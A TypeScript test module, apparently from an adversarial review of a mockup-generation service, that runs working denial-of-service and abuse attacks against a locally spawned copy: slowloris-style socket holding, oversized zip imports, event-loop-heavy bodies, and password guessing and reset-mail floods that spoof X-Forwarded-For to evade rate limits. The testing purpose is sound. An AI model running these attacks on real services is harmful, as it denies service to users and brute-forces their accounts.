/** What one account that spends nothing does to a service: the attacks of an adversarial review. */
import { once } from 'node:events'
import { createServer } from 'node:http'
import { connect } from 'node:net'
import { setTimeout as delay } from 'node:timers/promises'
import { crc32, deflateSync } from 'node:zlib'
import { zipSync } from 'fflate'
import sharp from 'sharp'
import { readSampleArtwork, type SpawnedService } from './spawned-service.ts'

/** The attacker: one account, its keys and its session. */
export type Attacker = {
  readonly service: SpawnedService
  readonly email: string
  /** Whom it attacks. */
  readonly victimEmail: string
  readonly keys: readonly string[]
  readonly cookie: string
  /** Where artwork may be fetched from. */
  readonly originUrl: string
  /** Answers so far, by status; 0 for requests that were cancelled. */
  readonly answers: Map<number, number>
}

export type Attack = {
  readonly name: string
  /** In the wallet; none is ever spent. */
  readonly credits: number
  /** What the operator has set. */
  readonly settings?: Readonly<Record<string, string>>
  /** How many times its calm median another customer's mockup may take; missing: as for all. */
  readonly slowdownMax?: number
  /** Attacks until the signal aborts. */
  readonly run: (attacker: Attacker, signal: AbortSignal) => Promise<void>
}

/** A key's limit is 100 in a minute. */
const PACE_MS = 620

const GALLERY = 'gallery-wall-three'
const TEMPLATE = 'oak-frame-portrait'
const MIB = 1024 * 1024

/** Calls again and again, at most two at once, until the signal aborts. */
export async function keepOn(
  signal: AbortSignal,
  act: (round: number) => Promise<void>,
  paceMs = PACE_MS,
): Promise<void> {
  let round = 0
  const work = async () => {
    while (!signal.aborted) {
      const paced = delay(2 * paceMs)
      await act(round++)
      await paced
    }
  }
  await Promise.all([work(), delay(paceMs).then(work)])
}

/** Sends a request and counts its answer. `leaveAfterMs` cancels it. */
export async function send(
  { service, answers }: Attacker,
  target: string,
  init: RequestInit,
  leaveAfterMs?: number,
): Promise<void> {
  const signal = leaveAfterMs === undefined ? null : AbortSignal.timeout(leaveAfterMs)
  const status = await fetch(`${service.url}${target}`, { method: 'POST', ...init, signal }).then(
    async answer => {
      await answer.arrayBuffer()
      return answer.status
    },
    () => 0,
  )
  answers.set(status, (answers.get(status) ?? 0) + 1)
}

function generate(attacker: Attacker, fields: unknown, leaveAfterMs?: number, key = attacker.keys[0]): Promise<void> {
  const headers = { authorization: `Bearer ${key}`, 'content-type': 'application/json' }
  return send(attacker, '/api/v1/mockups/generate', { headers, body: JSON.stringify(fields) }, leaveAfterMs)
}

function importBundle(attacker: Attacker, files: Readonly<Record<string, Uint8Array>>): Promise<void> {
  const headers = { cookie: attacker.cookie, origin: attacker.service.url, 'content-type': 'application/zip' }
  return send(attacker, '/dashboard/api/templates', { headers, body: new Uint8Array(zipSync(files, { level: 0 })) })
}

const plainPng = (widthPx: number, heightPx: number, alpha = 1): Promise<Buffer> =>
  sharp({ create: { width: widthPx, height: heightPx, channels: 4, background: { r: 90, g: 90, b: 90, alpha } } })
    .png()
    .toBuffer()

function describeTemplate(id: string, more: Readonly<Record<string, unknown>>): Uint8Array {
  const described = { format: 1, id, name: id, category: 'Wall Art', type: 'print', render_mode: 'corners', ...more }
  return Buffer.from(JSON.stringify({ ...described, scene: 'scene.png' }))
}

const wholeScene = (widthPx: number, heightPx: number) => [
  [0, 0],
  [widthPx, 0],
  [widthPx, heightPx],
  [0, heightPx],
]

/** Finding 1: 16 frames that each cover a 1:4 scene, and the dearest of them that the import lets pass. */
const costlyTemplate: Attack = {
  name: '1 costly template',
  credits: 12,
  async run(attacker, signal) {
    const scene = await plainPng(100, 400)
    for (let frameCount = 16; frameCount >= 1; frameCount >>= 1) {
      const frame = { aspect_ratio: 0.25, corners: wholeScene(100, 400) }
      const frames = Array.from({ length: frameCount }, () => frame)
      await importBundle(attacker, {
        'template.json': describeTemplate(`costly-${frameCount}`, { frames }),
        'scene.png': scene,
      })
    }
    // Those that were refused are 404.
    const artwork_url = `${attacker.originUrl}/artwork`
    await keepOn(signal, async round => {
      const template_id = `costly-${2 ** (round % 5)}`
      await generate(attacker, { template_id, artwork_url, width: 4000 - (round % 50) }, 3000)
    })
  },
}

/** Finding 2: places held by bodies that never come. */
const queueSquat: Attack = {
  name: '2 queue squat',
  credits: 0,
  async run({ service, keys, answers }, signal) {
    const { hostname, port } = new URL(service.url)
    const squat = async (key: string | undefined) => {
      while (!signal.aborted) {
        const socket = connect(Number(port), hostname)
        const received: Buffer[] = []
        socket.on('error', () => undefined).on('data', (data: Buffer) => received.push(data))
        socket.write(
          `POST /api/v1/mockups/generate HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer ${key}\r\nContent-Type: application/json\r\nContent-Length: 100000\r\n\r\n{`,
        )
        while (!signal.aborted && !socket.destroyed && received.length === 0) {
          await delay(700)
          socket.write(' ')
        }
        const status = Number(/^HTTP\/1\.1 (\d+)/.exec(Buffer.concat(received).toString('latin1'))?.[1] ?? 0)
        answers.set(status, (answers.get(status) ?? 0) + 1)
        socket.destroy()
        await delay(1000)
      }
    }
    await Promise.all(Array.from({ length: 140 }, (_, index) => squat(keys[index % keys.length])))
  },
}

/** Finding 3: zips of 20 KB with eight overlays of 36 megapixels. */
const importFlood: Attack = {
  name: '3 import flood',
  credits: 0,
  async run(attacker, signal) {
    const overlay = await plainPng(6000, 6000, 0.5)
    const names = Array.from({ length: 8 }, (_, index) => `overlay-${index}.png`)
    const frames = [{ aspect_ratio: 1, corners: wholeScene(6000, 6000) }]
    const files = {
      'template.json': describeTemplate('flood', { frames, overlays: names.map(file => ({ image: file })) }),
      'scene.png': await plainPng(6000, 6000),
      ...Object.fromEntries(names.map(name => [name, overlay])),
    }
    const flood = async () => {
      while (!signal.aborted) {
        await importBundle(attacker, files)
        await delay(300)
      }
    }
    await Promise.all(Array.from({ length: 10 }, flood))
  },
}

/** Finding 4: renders that are cancelled. */
const cancelRenders: Attack = {
  name: '4 cancelled renders',
  credits: 100,
  run: (attacker, signal) =>
    keepOn(signal, round => {
      const template_ids = Array.from({ length: 12 }, () => GALLERY)
      const output = { response_format: 'json', width: 4000 - (round % 400) }
      return generate(attacker, { template_ids, artwork_url: `${attacker.originUrl}/artwork`, ...output }, 400)
    }),
}

/** A PNG whose last rows are missing: only decoding finds that. */
function pictureThatEndsEarly(sidePx: number): Uint8Array<ArrayBuffer> {
  const chunk = (type: string, data: Uint8Array) => {
    const content = Buffer.concat([Buffer.from(type), data])
    const numbers = Buffer.alloc(8)
    numbers.writeUInt32BE(data.length, 0)
    numbers.writeUInt32BE(crc32(content), 4)
    return Buffer.concat([numbers.subarray(0, 4), content, numbers.subarray(4)])
  }
  const size = Buffer.alloc(13)
  size.writeUInt32BE(sidePx, 0)
  size.writeUInt32BE(sidePx, 4)
  // 8 bits a channel, RGB.
  size.set([8, 2], 8)
  const rows = deflateSync(Buffer.alloc((sidePx - 10) * (1 + 3 * sidePx)))
  const signature = Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a])
  const chunks = [chunk('IHDR', size), chunk('IDAT', rows), chunk('IEND', new Uint8Array())]
  return new Uint8Array(Buffer.concat([signature, ...chunks]))
}

/** Finding 5: batches whose last artwork breaks at its end. */
const lateFailures: Attack = {
  name: '5 late failures',
  credits: 12,
  async run(attacker, signal) {
    const good = new Blob([await readSampleArtwork()])
    const bad = new Blob([pictureThatEndsEarly(8000)])
    await keepOn(signal, async round => {
      const form = new FormData()
      const templates = [...Array.from({ length: 11 }, () => TEMPLATE), GALLERY]
      form.set('template_ids', JSON.stringify(templates))
      form.set('response_format', 'json')
      form.set('width', String(4000 - (round % 400)))
      for (const [name, artwork] of [
        ['artwork_0', good],
        ['artwork_1', good],
        ['artwork_2', bad],
      ] as const)
        form.set(name, artwork, name)
      const headers = { authorization: `Bearer ${attacker.keys[0]}` }
      await send(attacker, '/api/v1/mockups/generate', { headers, body: form })
    })
  },
}

/** Finding 6: other customers' pictures, tried with every key without a credit. */
const artworkProbes: Attack = {
  name: '6 artwork probes',
  credits: 0,
  async run(attacker, signal) {
    const artwork = new Blob([await readSampleArtwork()])
    const probe = (key: string) =>
      keepOn(signal, async () => {
        const form = new FormData()
        form.set('template_id', TEMPLATE)
        form.set('artwork', artwork, 'artwork.jpg')
        await send(attacker, '/api/v1/mockups/generate', { headers: { authorization: `Bearer ${key}` }, body: form })
      })
    await Promise.all(attacker.keys.map(probe))
  },
}

/** Finding 7: large downloads in requests that fail by a 404. */
const downloadCannon: Attack = {
  name: '7 download cannon',
  credits: 12,
  run: (attacker, signal) =>
    keepOn(signal, round => {
      const large = (frame: number) => `${attacker.originUrl}/large?${round}-${frame}`
      const artwork_urls = { 0: large(0), 1: large(1), 2: `${attacker.originUrl}/missing?${round}` }
      return generate(attacker, { template_id: GALLERY, artwork_urls })
    }),
}

/** Finding 8: bodies that cost the event loop most and end in a 400. */
const eventLoop: Attack = {
  name: '8 event loop',
  credits: 0,
  async run(attacker, signal) {
    const frames = Array.from({ length: 45_000 }, (_, index) => [String(index), 'http://x.y/'])
    const artwork_urls = Object.fromEntries(frames)
    const parameters = '; a=b'.repeat(3000)
    const part = `--b\r\nContent-Disposition: form-data; name="f"${parameters}\r\n\r\n\r\n`
    const headers = {
      authorization: `Bearer ${attacker.keys[0]}`,
      'content-type': 'multipart/form-data; boundary=b',
    }
    const body = part.repeat(200)
    await keepOn(signal, async round => {
      if (round % 2 === 0) await generate(attacker, { template_id: TEMPLATE, artwork_urls })
      else await send(attacker, '/api/v1/mockups/generate', { headers, body })
    })
  },
}

/** Finding 19: renders, keys and bundles from the dashboard. */
const dashboardCalls: Attack = {
  name: '19 dashboard calls',
  credits: 0,
  async run(attacker, signal) {
    const headers = { cookie: attacker.cookie, origin: attacker.service.url, 'content-type': 'application/json' }
    const flood = async (target: string, init: RequestInit) => {
      while (!signal.aborted) {
        await send(attacker, target, { headers, ...init })
        await delay(20)
      }
    }
    await Promise.all([
      flood('/dashboard/api/keys', { body: JSON.stringify({ name: 'Another' }) }),
      flood(`/dashboard/api/templates/${GALLERY}/bundle.zip`, { method: 'GET' }),
      flood('/dashboard/api/usage?days=365', { method: 'GET' }),
      flood('/dashboard/api/mockups/generate', { body: JSON.stringify({ template_id: TEMPLATE }) }),
    ])
  },
}

/** Findings 9 to 12: guesses, sign-ups and mails, from every network of one site behind a proxy. */
const signInFlood: Attack = {
  name: '9 sign-in flood',
  credits: 0,
  settings: { SIGN_UP: 'open', TRUST_PROXY: '127.0.0.1' },
  async run(attacker, signal) {
    const { service, victimEmail } = attacker
    const flood = async (path: string, fieldsOf: (round: number) => Readonly<Record<string, string>>) => {
      for (let round = 0; !signal.aborted; round += 1) {
        const network = (round % 0x10000).toString(16)
        const headers = {
          origin: service.url,
          'content-type': 'application/json',
          'x-forwarded-for': `[2001:db8:7:${network}::${network}]:${1024 + (round % 60_000)}`,
        }
        await send(attacker, `/dashboard/auth${path}`, { headers, body: JSON.stringify(fieldsOf(round)) })
        await delay(20)
      }
    }
    const password = (round: number) => `a guess of many, number ${round}`
    const stranger = (round: number) => `stranger-${round}@example.com`
    await Promise.all([
      flood('/sign-in/email', round => ({ email: victimEmail, password: password(round) })),
      flood('/sign-in/email', round => ({ email: stranger(round), password: password(round) })),
      flood('/sign-up/email', round => ({ name: 'x', email: stranger(round), password: password(round) })),
      flood('/request-password-reset', round => ({ email: round % 2 === 0 ? victimEmail : stranger(round) })),
    ])
  },
}

export const attacks: readonly Attack[] = [
  costlyTemplate,
  queueSquat,
  importFlood,
  cancelRenders,
  lateFailures,
  artworkProbes,
  downloadCannon,
  eventLoop,
  signInFlood,
  dashboardCalls,
]

/** An origin with an artwork of usual size, a large one that takes 2 s, and nothing else. */
export async function startAttackOrigin(): Promise<{ readonly host: string; readonly url: string } & Disposable> {
  const artwork = await readSampleArtwork()
  const piece = Buffer.alloc(MIB)
  const server = createServer((request, response) => {
    const isLarge = request.url?.startsWith('/large') === true
    if (request.url === '/artwork') response.end(artwork)
    else if (isLarge) {
      const timer = setInterval(() => response.write(piece), 100)
      setTimeout(() => {
        clearInterval(timer)
        response.end()
      }, 2000)
      response.once('close', () => clearInterval(timer))
    } else setTimeout(() => response.writeHead(404).end(), 1500)
  }).listen(0, '127.0.0.1')
  await once(server, 'listening')
  const address = server.address()
  if (address === null || typeof address === 'string') throw new Error('Expected a TCP address')
  const host = `127.0.0.1:${address.port}`
  return {
    host,
    url: `http://${host}`,
    [Symbol.dispose]() {
      server.closeAllConnections()
      server.close()
    },
  }
}
